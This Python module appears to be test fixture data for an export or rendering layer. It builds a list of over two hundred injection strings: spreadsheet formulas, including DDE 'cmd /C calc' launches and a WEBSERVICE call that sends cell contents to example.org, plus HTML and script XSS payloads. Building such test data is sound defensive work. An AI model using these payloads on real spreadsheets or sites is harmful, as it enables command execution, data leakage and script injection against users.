"""Texts that a spreadsheet or a browser would run if they were not kept as text."""

from __future__ import annotations

from itertools import product

_FORMULAS = [
    "{0}1+1",
    "{0}cmd|' /C calc'!A0",
    '{0}HYPERLINK("http://example.org","klik")',
    "{0}SUM(A1:A9)",
    '{0}WEBSERVICE("http://example.org/"&A1)',
    "{0}IMPORTXML(CONCAT(),1)",
    "{0}@SUM(1)",
    "{0}-2+3+cmd|' /C calc'!D2",
    '{0}DDE("cmd";"/C calc";"x")',
    "{0}Jansen",
]
_STARTS = ["=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠", " =", "'=", '"=', "{="]
_LINKS = ["http://example.org", "mailto:a@example.org", "internal:Sheet1!A1", "external:c:\\x.xlsx", "file://x"]
_NUMBERS = ["007", "1e5", "1,5", "TRUE", "#N/A", "12-03-2025", "_x0041_", "_x000D_", "{1,2}"]
_MARKUP = [
    "<script>window.planted=1</script>",
    "</script><script>window.planted=1</script>",
    "<!--<script>window.planted=1</script>",
    "<img src=x onerror=window.planted=1>",
    "<svg onload=window.planted=1>",
    '" onmouseover="window.planted=1" autofocus onfocus="window.planted=1',
    "' onclick='window.planted=1",
    "<a href=javascript:window.planted=1>x</a>",
    "<iframe srcdoc='<script>parent.planted=1</script>'>",
    "<style>@import url(http://example.org/x.css);</style>",
    "<link rel=stylesheet href=http://example.org/x.css>",
    "<meta http-equiv=refresh content='0;url=http://example.org'>",
    "<base href=http://example.org/>",
    "<form action=http://example.org><input name=q>",
    "{{ 7 * 7 }}",
    "{% raw %}",
    "${window.planted=1}",
    "\\u003cscript\\u003ewindow.planted=1\\u003c/script\\u003e",
    "\u2028window.planted=1\u2029",
    "]]><script>window.planted=1</script>",
    "</title></style></textarea><script>window.planted=1</script>",
    "&lt;script&gt;window.planted=1&lt;/script&gt;",
    "{n} {p} {from} {sources} {0}",
]

PAYLOADS: list[str] = (
    [formula.format(start) for start, formula in product(_STARTS, _FORMULAS)] + _LINKS + _NUMBERS + _MARKUP * 2
)
"""More than two hundred, formulas first."""
